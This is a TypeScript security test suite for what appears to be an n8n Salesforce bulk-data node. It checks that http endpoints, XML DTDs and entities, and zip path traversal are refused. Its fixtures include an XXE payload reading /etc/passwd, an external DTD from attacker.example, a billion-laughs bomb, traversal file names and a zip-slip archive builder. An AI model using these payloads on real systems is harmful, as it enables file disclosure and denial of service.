/* eslint-disable @n8n/community-nodes/no-restricted-imports -- test code: reads the test sources */
// Security: plain-http endpoints, XML with DTDs and entities, attachment zip paths, loopback-only test
// servers. The secret grep over everything the suite saw runs last, in reliability.test.ts.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';

import { parseXml, XmlError } from '../../nodes/shared/codecs/xml';
import { ClientProbe, setProbe } from '../nodes/probe';
import { apiRequest } from '../../nodes/shared/transport/request';
import { byId, classic, failure, jobStore, record, run, see, shown, suite, useCredential, v2 } from './context';

interface AdmEntry {
	entryName: string;
}
// adm-zip ships no types.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const AdmZip = require('adm-zip') as new (buffer?: Buffer) => { addFile(name: string, data: Buffer): void; toBuffer(): Buffer; getEntries(): AdmEntry[] };

const AREA = 'Security';
const ROOT = dirname(require.resolve('../../package.json'));

const XXE = '<?xml version="1.0"?><!DOCTYPE sObjects [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sObjects xmlns="http://www.force.com/2009/06/asyncapi/dataload"><sObject><Name>&xxe;</Name></sObject></sObjects>';
const EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE sObjects SYSTEM "http://attacker.example/x.dtd"><sObjects xmlns="http://www.force.com/2009/06/asyncapi/dataload"><sObject><Name>x</Name></sObject></sObjects>';
const laugh = (k: number): string => (k === 0 ? '<!ENTITY lol0 "lol">' : `${laugh(k - 1)}<!ENTITY lol${k} "${`&lol${k - 1};`.repeat(10)}">`);
const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE sObjects [${laugh(9)}]><sObjects xmlns="http://www.force.com/2009/06/asyncapi/dataload"><sObject><Name>&lol9;</Name></sObject></sObjects>`;

export function securityCases(): void {
	describe('plain http:// is refused except on loopback', () => {
		afterEach(() => useCredential());

		it('a login URL or instance URL on plain http to another host is refused before any token is sent', async () => {
			const before = suite.emulator.oauth.issued;
			useCredential({ customLoginUrl: 'http://login.example.com' });
			const login = await failure(v2, { resource: 'ingestJob', operation: 'get', jobId: byId('7505e00000ZZZZZAAA') });
			expect(login.message).toMatch(/Custom Login URL must use https:\/\/ \(got http:\/\/login\.example\.com\)/);
			useCredential({ instanceUrl: 'http://203.0.113.7' });
			const instance = await failure(v2, { resource: 'ingestJob', operation: 'get', jobId: byId('7505e00000ZZZZZAAA') });
			expect(instance.message).toMatch(/Instance URL must use https:\/\/ \(got http:\/\/203\.0\.113\.7\)/);
			const [token] = suite.emulator.oauth.tokens.keys();
			useCredential({ grantType: 'accessToken', staticAccessToken: token, instanceUrl: 'http://salesforce.example.com' });
			const fixed = await failure(v2, { resource: 'ingestJob', operation: 'get', jobId: byId('7505e00000ZZZZZAAA') });
			expect(fixed.message).toMatch(/Instance URL must use https:\/\//);
			// The instance URL case fetched a token from the (loopback) login host, and went no further.
			expect(suite.emulator.oauth.issued - before).toBeLessThanOrEqual(1);
			record(AREA, 'plain http:// endpoints (login URL, instance URL, fixed token with an http instance)', `refused: "${login.message}"; "${instance.message}"`, 'no request with a token left for a non-loopback http host; http://127.0.0.1 (the emulator) accepted throughout the suite');
		});

		it('the client sends nothing to an absolute URL other than https or loopback', async () => {
			const probe = new ClientProbe();
			setProbe(async (_sf, ctx) => {
				await apiRequest(ctx, { method: 'GET', path: 'http://203.0.113.7/services/data/v63.0/jobs/ingest' });
				return {};
			});
			let error: Error | undefined;
			try {
				await suite.harness.execute(probe);
			} catch (e) {
				error = e as Error;
				see(e);
			}
			expect(error?.message).toMatch(/http:\/\/203\.0\.113\.7.*only to the org's instance over https/);
			record(AREA, 'a plain-http absolute URL handed to the client (e.g. a page link from a response)', `refused: "${error?.message}"`, 'no request sent');
		});
	});

	describe('the XML reader ignores DTDs and external entities', () => {
		it.each([
			['an XXE payload (external entity reading /etc/passwd)', XXE],
			['an external DTD', EXTERNAL_DTD],
			['a billion-laughs payload', BILLION_LAUGHS],
		])('%s: refused by the reader, and through Classic Batch → Get Request', async (what, payload) => {
			expect(() => parseXml(payload)).toThrow(XmlError);
			expect(() => parseXml(payload)).toThrow(/DOCTYPE declarations are not allowed/);
			const [job] = await run(classic, { resource: 'job', operation: 'create', object: 'Account', jobOperation: 'insert', contentType: 'XML' });
			const jobId = byId(String(job.json.id));
			const [batch] = await run(classic, { resource: 'batch', operation: 'add', jobId, inputDataType: 'text', data: payload });
			const started = Date.now();
			const error = await failure(classic, { resource: 'batch', operation: 'getRequest', jobId, batchId: String(batch.json.id) });
			const ms = Date.now() - started;
			expect(error.message).toMatch(/DOCTYPE declarations are not allowed/);
			expect(shown(error)).not.toMatch(/root:|lollollol/);
			record(AREA, `XML with ${what} (parser, and Classic Batch → Get Request of such a batch)`, `refused without expanding or fetching anything (${ms < 1000 ? 'under 1 s' : `${ms} ms`}): "${error.message}"`, 'no file content, no entity expansion in any output');
		});
	});

	describe('attachment zips never contain paths that escape the zip root', () => {
		it('file names with folders, "..", drive letters and backslashes become plain names at the root', async () => {
			const parent = suite.emulator.org.insertSystem('Account', { Name: 'R-zip-parent' });
			const [job] = await run(classic, { resource: 'attachment', operation: 'createJob', object: 'Attachment', jobOperation: 'insert', contentType: 'ZIP_CSV' });
			const jobId = byId(String(job.json.id));
			const names = ['../../etc/passwd', '/abs/evil.sh', 'C:\\Windows\\evil.dll', '..\\..\\evil.txt', '..', '.hidden', 'dir/sub/ok.txt', 'naïve ünïcode.txt'];
			const input = await Promise.all(names.map(async (name) => ({ json: { ParentId: parent.Id }, binary: { data: await suite.harness.prepareBinary(Buffer.from(`content of ${name}`), name, 'text/plain') } })));
			const [batch] = await run(classic, { resource: 'attachment', operation: 'uploadBatch', jobId }, input);
			const [request] = await run(classic, { resource: 'batch', operation: 'getRequest', jobId, batchId: String(batch.json.id), outputAs: 'binary' });
			const entries = new AdmZip(await suite.harness.readBinary(request.binary!.data)).getEntries().map((e) => e.entryName);
			expect(entries).toHaveLength(names.length + 1);
			for (const entry of entries) {
				expect(entry).toMatch(/^[A-Za-z0-9_-][A-Za-z0-9._-]*$/);
				expect(entry).not.toContain('..');
			}
			// A ready zip with an entry that climbs out of the root is refused before it is sent.
			const before = (jobStore().get(String(job.json.id))?.batches ?? []).length;
			const zip = zipWithNames(['request.txt', '../x']);
			const error = await failure(classic, { resource: 'attachment', operation: 'uploadBatch', jobId, attachmentSource: 'zip' }, [{ json: {}, binary: { data: await suite.harness.prepareBinary(zip, 'evil.zip', 'application/zip') } }]);
			expect(error.message).toMatch(/"\.\.\/x".*outside the zip/);
			expect(jobStore().get(String(job.json.id))?.batches ?? []).toHaveLength(before);
			record(AREA, 'attachment zip paths (Classic Upload Attachment Batch: file names "../../etc/passwd", "/abs/evil.sh", "C:\\\\Windows\\\\evil.dll", "..\\\\..\\\\evil.txt", …; a ready zip holding "../x")', `built zip entries: ${entries.join(', ')}; ready zip refused: "${error.message}"`, 'every entry a plain name at the zip root; the climbing zip was not sent');
		});
	});

	describe('test servers listen on 127.0.0.1 only', () => {
		it('every emulator of the suite, and every listen() in the test code', () => {
			const addresses = suite.emulators.map((e) => e.server.address().address);
			expect(addresses.length).toBeGreaterThan(0);
			expect(new Set(addresses)).toEqual(new Set(['127.0.0.1']));
			const calls: string[] = [];
			const walk = (dir: string) => {
				for (const name of readdirSync(dir)) {
					const path = join(dir, name);
					if (name === 'node_modules' || name.startsWith('.')) continue;
					if (statSync(path).isDirectory()) walk(path);
					else if (/\.(ts|js|mjs|cjs)$/.test(name)) {
						const text = readFileSync(path, 'utf8');
						for (const m of text.matchAll(/\.listen\(([^)]*)\)/g)) calls.push(`${relative(ROOT, path)}: listen(${m[1]})`);
					}
				}
			};
			walk(join(ROOT, 'test'));
			walk(join(ROOT, 'scripts'));
			const servers = calls.filter((c) => !c.includes('test/reliability/'));
			expect(servers.length).toBeGreaterThan(0);
			for (const call of servers) expect(call).toContain("'127.0.0.1'");
			const n8n = readFileSync(join(ROOT, 'scripts/lib/n8n.js'), 'utf8');
			expect(n8n).toMatch(/N8N_LISTEN_ADDRESS: '127\.0\.0\.1'/);
			record(AREA, 'test servers listen on loopback only', `emulators: ${addresses.length} × ${[...new Set(addresses)].join()}; listen() calls in test/ and scripts/: ${servers.map((c) => c.replace(/:.*/, '')).join(', ')} — all bind '127.0.0.1'; the real n8n of the e2e suite gets N8N_LISTEN_ADDRESS=127.0.0.1`, '—');
		});
	});
}

/** A store-only zip with these entry names (each holding its own name), written by hand so any name goes in. */
function zipWithNames(names: string[]): Buffer {
	const locals: Buffer[] = [];
	const centrals: Buffer[] = [];
	let offset = 0;
	for (const entryName of names) {
		const name = Buffer.from(entryName);
		const data = Buffer.from(entryName === 'request.txt' ? 'Name,ParentId,Body\nx,001000000000001AAA,#x\n' : 'x');
		const crc = crc32(data);
		const local = Buffer.alloc(30);
		local.writeUInt32LE(0x04034b50, 0);
		local.writeUInt16LE(20, 4);
		local.writeUInt32LE(crc, 14);
		local.writeUInt32LE(data.length, 18);
		local.writeUInt32LE(data.length, 22);
		local.writeUInt16LE(name.length, 26);
		const central = Buffer.alloc(46);
		central.writeUInt32LE(0x02014b50, 0);
		central.writeUInt16LE(20, 4);
		central.writeUInt16LE(20, 6);
		central.writeUInt32LE(crc, 16);
		central.writeUInt32LE(data.length, 20);
		central.writeUInt32LE(data.length, 24);
		central.writeUInt16LE(name.length, 28);
		central.writeUInt32LE(offset, 42);
		locals.push(local, name, data);
		centrals.push(central, name);
		offset += 30 + name.length + data.length;
	}
	const size = centrals.reduce((n, b) => n + b.length, 0);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(names.length, 8);
	end.writeUInt16LE(names.length, 10);
	end.writeUInt32LE(size, 12);
	end.writeUInt32LE(offset, 16);
	return Buffer.concat([...locals, ...centrals, end]);
}

function crc32(data: Buffer): number {
	let crc = 0xffffffff;
	for (const byte of data) {
		crc ^= byte;
		for (let k = 0; k < 8; k++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
	}
	return (crc ^ 0xffffffff) >>> 0;
}

